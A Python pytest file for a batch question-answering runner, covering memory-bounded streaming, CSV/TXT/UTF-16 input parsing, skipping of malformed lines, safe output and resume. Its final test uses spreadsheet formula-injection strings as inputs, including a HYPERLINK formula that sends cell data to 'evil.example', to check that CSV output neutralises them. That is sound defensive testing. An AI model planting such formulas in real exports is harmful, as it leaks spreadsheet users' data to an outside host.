"""The batch runner streams in bounded memory, skips each bad line with its reason and never loses an output."""

import csv
import json
import tracemalloc

import pytest

from reportqa.batchio import FORMULA_STARTS, BatchQuestion, finished_ids, partial_path, read_questions, run_batch
from reportqa.errors import BatchInputError, QuestionError
from reportqa.records import Answer


class EchoQA:
    """Answers instantly, so the test measures the runner's streaming rather than retrieval."""

    def __init__(self):
        self.largest_group = 0

    def batch(self, questions, top_k=None, histories=None):
        self.largest_group = max(self.largest_group, len(questions))
        return [Answer(question=q, text=q[::-1], passages=[]) for q in questions]


def test_hundred_thousand_questions_stream_in_bounded_memory(tmp_path):
    source = tmp_path / "q.jsonl"
    with source.open("w", encoding="utf-8") as f:
        for i in range(100_000):
            f.write(json.dumps({"id": f"q{i}", "question": f"질문 번호 {i}는 무엇인가?"}, ensure_ascii=False) + "\n")
    out = tmp_path / "a.jsonl"
    qa = EchoQA()
    tracemalloc.start()
    summary = run_batch(qa, source, out)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert summary.answered == 100_000 and qa.largest_group == 32
    assert peak < 5_000_000  # the input file alone is ~5 MB; nothing close to it is held at once
    assert len(finished_ids(out)) == 100_000


def test_csv_and_txt_inputs_keep_order_and_report_bad_rows(tmp_path):
    csv_in = tmp_path / "q.csv"
    csv_in.write_text("question,id\n첫째,a\n,b\n셋째,\n", encoding="utf-8")
    items = list(read_questions(csv_in))
    by_kind = [(i.id, None) if isinstance(i, BatchQuestion) else (None, i.line) for i in items]
    assert by_kind == [("a", None), (None, 3), ("3", None)]
    txt = tmp_path / "q.txt"
    txt.write_text("하나\n\n둘\n", encoding="utf-8")
    assert [(i.id, i.question) for i in read_questions(txt)] == [("1", "하나"), ("3", "둘")]


def test_spreadsheet_csv_headers_and_separators_are_read(tmp_path):
    """Headers written "Question" or " ID " and ";" or tab separators, as spreadsheets write them."""
    for name, text in [
        ("comma.csv", 'ID , Question\na,"첫째, 둘째"\n'),
        ("semicolon.csv", "id;Question\na;첫째, 둘째\n"),
        ("tab.csv", "QUESTION\tid\n첫째, 둘째\ta\n"),
    ]:
        source = tmp_path / name
        source.write_text(text, encoding="utf-8")
        items = list(read_questions(source))
        assert [(i.id, i.question) for i in items] == [("a", "첫째, 둘째")], name
    exact = tmp_path / "both.csv"
    exact.write_text("Question,question\nwrong,right\n", encoding="utf-8")
    assert [i.question for i in read_questions(exact)] == ["right"]
    nameless = tmp_path / "none.csv"
    nameless.write_text("questions;id\nx;1\n", encoding="utf-8")
    with pytest.raises(BatchInputError, match="needs a 'question' column"):
        list(read_questions(nameless))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be"])
def test_utf16_files_with_their_byte_order_mark_are_read(tmp_path, encoding):
    """Spreadsheets save "Unicode text" as UTF-16; without this every line was "not UTF-8 text"."""
    bom = "\ufeff" if encoding == "utf-16-be" else ""  # the utf-16 codec writes its own mark
    for name, text in [("q.txt", "첫째 질문\n둘째 질문\n"), ("q.csv", "id,question\na,첫째 질문\n")]:
        source = tmp_path / name
        source.write_bytes((bom + text).encode(encoding))
        items = list(read_questions(source))
        assert all(isinstance(i, BatchQuestion) for i in items) and items[0].question == "첫째 질문", name
    assert [i.question for i in read_questions(tmp_path / "q.txt")] == ["첫째 질문", "둘째 질문"]


# --- hostile batch files: one bad line is skipped with its reason, nothing is lost -----------------


def _run(tmp_path, name: str, data: bytes, out_name: str = "a.jsonl"):
    source = tmp_path / name
    source.write_bytes(data)
    skipped = []
    summary = run_batch(EchoQA(), source, tmp_path / out_name, on_skip=skipped.append)
    return summary, skipped, tmp_path / out_name


def test_a_deeply_nested_or_non_utf8_jsonl_line_is_one_skipped_line(tmp_path):
    lines = [
        b'{"id": "a", "question": "first"}',
        b'{"id": "deep", "question": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"id": "bad", "question": "caf\xe9 \xff"}',
        b'{"id": {"x": 1}, "question": "an id that is an object"}',
        b'{"id": "b", "question": "second"}',
    ]
    summary, skipped, out = _run(tmp_path, "q.jsonl", b"\n".join(lines) + b"\n")
    assert summary.answered == 2 and summary.skipped == 3
    assert skipped == [
        "line 2: JSON nested too deeply",
        "line 3: not UTF-8 text",
        "line 4: 'id' must be text or a number",
    ]
    assert [json.loads(line)["id"] for line in out.read_text(encoding="utf-8").splitlines()] == ["a", "b"]


def test_an_oversized_or_non_utf8_csv_field_is_one_skipped_row(tmp_path):
    data = b"id,question\na,first\nbig," + b"x" * 200_000 + b"\nbad,caf\xe9\nb,second\n"
    summary, skipped, out = _run(tmp_path, "q.csv", data)
    assert summary.answered == 2 and len(skipped) == 2
    assert "field larger than field limit" in skipped[0] and skipped[1].endswith("not UTF-8 text")
    assert [json.loads(line)["id"] for line in out.read_text(encoding="utf-8").splitlines()] == ["a", "b"]


def test_a_non_utf8_txt_line_is_skipped(tmp_path):
    summary, skipped, _ = _run(tmp_path, "q.txt", b"first\n\xff\xfe broken\nsecond\n")
    assert summary.answered == 2 and skipped == ["line 2: not UTF-8 text"]


def test_the_output_cannot_be_the_input(tmp_path):
    source = tmp_path / "q.jsonl"
    source.write_text('{"id": "a", "question": "first"}\n', encoding="utf-8")
    before = source.read_bytes()
    for out in (source, tmp_path / "." / "q.jsonl"):
        with pytest.raises(BatchInputError, match="would overwrite the input"):
            run_batch(EchoQA(), source, out)
    (tmp_path / "link.jsonl").symlink_to(source)
    with pytest.raises(BatchInputError, match="would overwrite the input"):
        run_batch(EchoQA(), source, tmp_path / "link.jsonl")
    assert source.read_bytes() == before


class FailingQA(EchoQA):
    def batch(self, questions, top_k=None, histories=None):
        raise QuestionError("the index went away")


def test_a_failed_run_leaves_the_previous_output_whole(tmp_path):
    source = tmp_path / "q.jsonl"
    source.write_text('{"id": "a", "question": "first"}\n', encoding="utf-8")
    out = tmp_path / "a.jsonl"
    run_batch(EchoQA(), source, out)
    before = out.read_bytes()
    with pytest.raises(QuestionError):
        run_batch(FailingQA(), source, out)
    assert out.read_bytes() == before
    assert not partial_path(out).exists() or partial_path(out).read_text(encoding="utf-8") == ""


def test_resume_continues_an_interrupted_partial_output(tmp_path):
    source = tmp_path / "q.jsonl"
    source.write_text("".join(f'{{"id": "q{i}", "question": "질문 {i}"}}\n' for i in range(4)), encoding="utf-8")
    out = tmp_path / "a.jsonl"
    partial_path(out).write_text(
        '{"id": "q0", "question": "질문 0", "answer": "", "abstained": false, "passages": []}\n{"id": "q1"',
        encoding="utf-8",
    )
    summary = run_batch(EchoQA(), source, out, resume=True)
    assert summary.already_done == 1 and summary.answered == 3 and not partial_path(out).exists()
    assert [json.loads(line)["id"] for line in out.read_text(encoding="utf-8").splitlines()] == ["q0", "q1", "q2", "q3"]


def test_resume_refuses_a_file_that_batch_did_not_write_and_leaves_it_alone(tmp_path):
    source = tmp_path / "q.jsonl"
    source.write_text('{"id": "q0", "question": "질문"}\n', encoding="utf-8")
    out = tmp_path / "notes.jsonl"
    out.write_text("my own notes\n", encoding="utf-8")
    with pytest.raises(BatchInputError, match="line 1 is not an answer record, so --resume cannot continue it"):
        run_batch(EchoQA(), source, out, resume=True)
    assert out.read_text(encoding="utf-8") == "my own notes\n"


def test_csv_output_neutralises_formulas_and_resume_still_finds_their_ids(tmp_path):
    rows = [("=1+1", '=HYPERLINK("http://evil.example/"&A1,"click")'), ("+cmd", "@SUM(A1)"), ("plain", "-2 or \tthree")]
    source = tmp_path / "q.jsonl"
    source.write_text("".join(json.dumps({"id": i, "question": q}) + "\n" for i, q in rows), encoding="utf-8")
    out = tmp_path / "a.csv"
    run_batch(EchoQA(), source, out)
    written = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert [r["id"] for r in written] == ["'=1+1", "'+cmd", "plain"]
    assert [r["question"] for r in written] == ["'" + q for _, q in rows]
    assert all(not cell.startswith(FORMULA_STARTS) for r in written for cell in r.values())
    assert finished_ids(out) == {"=1+1", "+cmd", "plain"}
    assert run_batch(EchoQA(), source, out, resume=True).already_done == 3
    jsonl = tmp_path / "a.jsonl"
    run_batch(EchoQA(), source, jsonl)
    assert [json.loads(line)["question"] for line in jsonl.read_text(encoding="utf-8").splitlines()] == [
        q for _, q in rows
    ]
